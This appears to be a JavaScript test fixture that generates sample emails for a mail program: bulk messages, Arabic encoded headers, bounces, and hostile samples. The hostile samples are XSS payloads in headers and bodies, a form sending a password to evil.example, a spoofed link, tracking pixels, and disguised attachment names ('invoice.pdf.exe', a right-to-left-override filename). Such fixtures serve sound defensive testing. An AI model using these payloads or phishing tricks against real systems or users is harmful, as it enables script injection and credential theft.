// The mail for the real program: enough of it for a second page, and one of every kind that a case asks for.
const encoded = (text) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
const base64 = (text) =>
  Buffer.from(text)
    .toString("base64")
    .replace(/(.{76})/g, "$1\n");

let last = 0;

function head(fields) {
  last += 1;
  const all = {
    Date: "Mon, 02 Nov 2026 10:00:00 +0000",
    "Message-ID": `<${last}@sender.example>`,
    "MIME-Version": "1.0",
    ...fields,
  };
  return Object.entries(all)
    .map(([name, value]) => `${name}: ${value}`)
    .join("\n");
}

const plain = (fields, text) =>
  `${head({ ...fields, "Content-Type": "text/plain; charset=utf-8", "Content-Transfer-Encoding": "base64" })}\n\n${base64(text)}\n`;

/** A grey pixel. */
const picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNoAAAAggCBd81ytgAAAABJRU5ErkJggg==";

function mixed(fields, parts, kind = "mixed") {
  const body = parts.map(
    ({ text, ...heads }) =>
      `--edge\n${Object.entries(heads)
        .map(([name, value]) => `${name}: ${value}`)
        .join("\n")}\n\n${text}\n`,
  );
  return `${head({ ...fields, "Content-Type": `multipart/${kind}; boundary="edge"` })}\n\n${body.join("")}--edge--\n`;
}

const hostile = "<img src=x onerror=alert(1)>";
const html = `<html><body><h1>Your parcel is waiting</h1><p>Choose a time.</p>
<img src="http://tracker.example/pixel.gif" width="120" height="40">
<img src=x onerror="alert(1)"><script>alert("html")</script>
<form action="https://evil.example/steal"><input name="password"></form>
<div style="background:url(http://tracker.example/css.gif)">css</div>
<a href="https://evil.example/">a link</a></body></html>`;

const topics = [
  "Quarterly figures",
  "Invitation to the autumn fair",
  "Change of your tariff",
  "Seven quiet places",
  "Minutes of the meeting",
];

/** In the order they are sent; the last to come stands first in the list. */
export function mails(person, other, mailbox) {
  const to = (fields) => ({ From: "Sender <sender@doubtful.example>", To: person, ...fields });
  const many = Array.from({ length: 62 }, (_, at) => ({
    from: `sender${at}@doubtful.example`,
    to: [person],
    text: plain(
      to({ From: `Sender ${at} <sender${at}@doubtful.example>`, Subject: `${topics[at % topics.length]} (${at})` }),
      "Good day,\n\nthis is only a text.\n",
    ),
  }));
  return [
    ...many,
    { from: "offers@pushy.example", to: [person], refused: [person], text: "" },
    {
      // Blocked by one of two recipients, and only by its header: taken, and listed as rejected for the one.
      from: "bounce@bulk.example",
      to: [person, other],
      text: plain(
        { From: "Pushy <offers@pushy.example>", To: `${person}, ${other}`, Subject: `Offer ${hostile}` },
        "Buy now.\n",
      ),
    },
    {
      from: "",
      to: [person],
      text: plain(
        to({ From: "Mail Delivery System <postmaster@doubtful.example>", Subject: "Undelivered Mail CONFIDENTIAL" }),
        "It failed.\n",
      ),
    },
    {
      from: "chief@doubtful.example",
      to: [person],
      text: plain(
        to({ From: "The Chief <chief@doubtful.example>", Subject: "CONFIDENTIAL plans" }),
        "Not yet public.\n",
      ),
    },
    {
      from: "billing@doubtful.example",
      to: [person],
      text: mixed(to({ From: "Billing <billing@doubtful.example>", Subject: "Invoice 88213" }), [
        { "Content-Type": "text/plain", text: "See the attachment." },
        {
          "Content-Type": "application/octet-stream",
          "Content-Disposition": `attachment; filename*=utf-8''invoice.pdf.exe`,
          "Content-Transfer-Encoding": "base64",
          text: base64("MZ is not run here"),
        },
      ]),
    },
    {
      from: "photos@doubtful.example",
      to: [person],
      text: mixed(to({ From: "Photos <photos@doubtful.example>", Subject: "Photos of last week" }), [
        { "Content-Type": "text/plain", text: "See the attachment." },
        {
          "Content-Type": "application/octet-stream",
          "Content-Disposition": `attachment; filename*=utf-8''photo%E2%80%AEgpj.txt`,
          "Content-Transfer-Encoding": "base64",
          text: base64("only a text"),
        },
      ]),
    },
    {
      from: "tijara@doubtful.example",
      to: [person],
      text: plain(
        to({
          From: `${encoded("محمد الأحمد")} <tijara@doubtful.example>`,
          Subject: encoded("عرض أسعار للربع القادم (2025)"),
        }),
        "مرحبا،\n\nالسعر 1,250 يورو.\n",
      ),
    },
    {
      from: "parcel@doubtful.example",
      to: [person],
      text: mixed(to({ From: "Parcel Post <parcel@doubtful.example>", Subject: "Your parcel is waiting" }), [
        { "Content-Type": "text/html; charset=utf-8", "Content-Transfer-Encoding": "base64", text: base64(html) },
      ]),
    },
    {
      from: "customer@doubtful.example",
      to: [mailbox],
      text: plain(
        { From: "A Customer <customer@doubtful.example>", To: mailbox, Subject: "A question about your offer" },
        "Is it still valid?\n",
      ),
    },
    {
      // Bears the address of somebody of ours as its name, and brings a picture beside one that is elsewhere.
      from: "desk@doubtful.example",
      to: [person],
      text: mixed(
        to({ From: `"${person}" <desk@doubtful.example>`, Subject: "Your mailbox will be closed" }),
        [
          {
            "Content-Type": "text/html; charset=utf-8",
            "Content-Transfer-Encoding": "base64",
            text: base64(
              '<p>Look: <img src="cid:own@doubtful.example"></p><img src="http://tracker.example/far.gif">' +
                '<p><a href="https://evil.example/login">https://portal.example.test/</a></p>',
            ),
          },
          {
            "Content-Type": "image/png",
            "Content-ID": "<own@doubtful.example>",
            "Content-Transfer-Encoding": "base64",
            text: picture,
          },
        ],
        "related",
      ),
    },
    {
      from: "eve@doubtful.example",
      to: [person],
      text: plain(
        to({
          From: `"${hostile}" <eve@doubtful.example>`,
          Subject: encoded(`${hostile} <script>alert("subject")</script>`),
          "X-Mailer": `Mass <b>Mailer</b> ${hostile}`,
        }),
        `${hostile}\n<script>alert("text")</script>\njavascript:alert(1)\n`,
      ),
    },
    {
      from: "board@doubtful.example",
      to: [person],
      text: plain(
        to({
          From: "The Board <board@doubtful.example>",
          Subject:
            "Minutes of the September meeting, with the corrections that everyone asked for and the revised budget we promised to send round",
        }),
        "Good day.\n",
      ),
    },
  ];
}
